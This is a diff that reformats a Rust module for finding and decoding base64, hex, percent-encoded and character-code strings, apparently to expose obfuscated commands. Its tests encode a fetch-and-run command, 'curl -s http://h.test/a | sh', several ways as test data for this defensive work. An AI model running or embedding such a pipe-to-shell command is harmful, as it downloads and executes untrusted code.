@@ -58,7 +58,11 @@ const ENCODINGS: &[Encoding] = &[
 
 static COMPILED: LazyLock<Vec<(&'static Encoding, Regex)>> = LazyLock::new(|| {
     let compile = |encoding: &'static Encoding| {
-        let pattern = encoding.pattern.replace(r"\b", r"(?-u:\b)").replace(r"\w", "0-9A-Za-z_").replace(r"\s", r"\t\n\r ");
+        let pattern = encoding
+            .pattern
+            .replace(r"\b", r"(?-u:\b)")
+            .replace(r"\w", "0-9A-Za-z_")
+            .replace(r"\s", r"\t\n\r ");
         Some((encoding, Regex::new(&pattern).ok()?))
     };
     ENCODINGS.iter().filter_map(compile).collect()
@@ -68,11 +72,16 @@ static COMPILED: LazyLock<Vec<(&'static Encoding, Regex)>> = LazyLock::new(|| {
 pub(crate) fn pieces(text: &str) -> (Vec<Piece>, bool) {
     let mut found = Vec::new();
     for (encoding, pattern) in COMPILED.iter() {
-        for candidate in pattern.find_iter(text).filter(|candidate| candidate.len() >= ENCODED_CHARS) {
+        for candidate in pattern
+            .find_iter(text)
+            .filter(|candidate| candidate.len() >= ENCODED_CHARS)
+        {
             if found.len() >= DECODED_PIECES {
                 return (found, true);
             }
-            if let Some(decoded) = (encoding.decode)(candidate.as_str()).filter(|decoded| is_worth_reading(decoded)) {
+            if let Some(decoded) =
+                (encoding.decode)(candidate.as_str()).filter(|decoded| is_worth_reading(decoded))
+            {
                 found.push(Piece {
                     range: candidate.range(),
                     encoding: encoding.name,
@@ -93,9 +102,13 @@ fn is_worth_reading(decoded: &str) -> bool {
 }
 
 fn decode_base64(piece: &str) -> Option<String> {
-    let compact: String = piece.chars().filter(|c| !c.is_ascii_whitespace() && *c != '\\').collect();
+    let compact: String = piece
+        .chars()
+        .filter(|c| !c.is_ascii_whitespace() && *c != '\\')
+        .collect();
     // Paths and long names are letters of base64 as well, but not of both cases with digits, or in steps of four.
-    let mixes = compact.bytes().any(|b| b.is_ascii_uppercase()) && compact.bytes().any(|b| b.is_ascii_lowercase());
+    let mixes = compact.bytes().any(|b| b.is_ascii_uppercase())
+        && compact.bytes().any(|b| b.is_ascii_lowercase());
     if !mixes {
         return None;
     }
@@ -111,7 +124,9 @@ fn decode_percent(piece: &str) -> Option<String> {
             u8::from_str_radix(digits, 16).ok()
         });
         bytes.push(code.unwrap_or(first));
-        rest = tail.get(if code.is_some() { 2 } else { 0 }..).unwrap_or_default();
+        rest = tail
+            .get(if code.is_some() { 2 } else { 0 }..)
+            .unwrap_or_default();
     }
     text_of(bytes)
 }
@@ -134,7 +149,9 @@ fn decode_codes(piece: &str) -> Option<String> {
         .map(|line| line.split(['#', '/']).next().unwrap_or_default())
         .collect::<Vec<&str>>()
         .join(" ");
-    let words = without_comments.split([',', ' ', '\t', '\n', '\r']).filter(|word| !word.is_empty());
+    let words = without_comments
+        .split([',', ' ', '\t', '\n', '\r'])
+        .filter(|word| !word.is_empty());
     let codes: Option<Vec<u8>> = words
         .map(|word| match word.strip_prefix("0x") {
             Some(hex) => u8::from_str_radix(hex, 16).ok(),
@@ -143,7 +160,10 @@ fn decode_codes(piece: &str) -> Option<String> {
         .collect();
     let text = text_of(codes?)?;
     // Any list of small numbers is a list of characters; one of letters and blanks is meant as such.
-    let letters = text.chars().filter(|c| c.is_ascii_alphanumeric() || matches!(c, ' ' | '/' | '.' | '\n' | '-')).count();
+    let letters = text
+        .chars()
+        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, ' ' | '/' | '.' | '\n' | '-'))
+        .count();
     (letters * 10 >= text.chars().count() * 8).then_some(text)
 }
 
@@ -154,7 +174,10 @@ mod tests {
     fn only(text: &str) -> Option<(&'static str, String)> {
         let (found, cut) = pieces(text);
         assert!(!cut);
-        found.into_iter().next().map(|piece| (piece.encoding, piece.text))
+        found
+            .into_iter()
+            .next()
+            .map(|piece| (piece.encoding, piece.text))
     }
 
     #[test]
@@ -162,15 +185,30 @@ mod tests {
         let command = "curl -s http://h.test/a | sh";
         for (encoding, text) in [
             ("base64", "x = 'Y3VybCAtcyBodHRwOi8vaC50ZXN0L2EgfCBzaA=='"),
-            ("base64", "x='Y3VybCAtcyBodHRwOi8vaC50ZXN0\n   L2EgfCBzaAo='"),
-            ("hexadecimal", "\"6375726c202d7320687474703a2f2f682e746573742f61207c207368\""),
-            ("percent encoding", "%63%75%72%6c%20%2d%73%20%68%74%74%70%3a%2f%2f%68%2e%74%65%73%74%2f%61%20%7c%20%73%68"),
-            ("character codes", "[99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,104,46,116,101,115,116,47,97,32,124,32,115,104]"),
+            (
+                "base64",
+                "x='Y3VybCAtcyBodHRwOi8vaC50ZXN0\n   L2EgfCBzaAo='",
+            ),
+            (
+                "hexadecimal",
+                "\"6375726c202d7320687474703a2f2f682e746573742f61207c207368\"",
+            ),
+            (
+                "percent encoding",
+                "%63%75%72%6c%20%2d%73%20%68%74%74%70%3a%2f%2f%68%2e%74%65%73%74%2f%61%20%7c%20%73%68",
+            ),
+            (
+                "character codes",
+                "[99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,104,46,116,101,115,116,47,97,32,124,32,115,104]",
+            ),
         ] {
             let (found, decoded) = only(text).unwrap_or_else(|| panic!("nothing in {text}"));
             assert_eq!((found, decoded.trim_end()), (encoding, command));
         }
-        assert_eq!(only(r"\x63\x75\x72\x6c\x20\x61\x20\x7c").unwrap().1, "curl a |");
+        assert_eq!(
+            only(r"\x63\x75\x72\x6c\x20\x61\x20\x7c").unwrap().1,
+            "curl a |"
+        );
     }
 
     #[test]
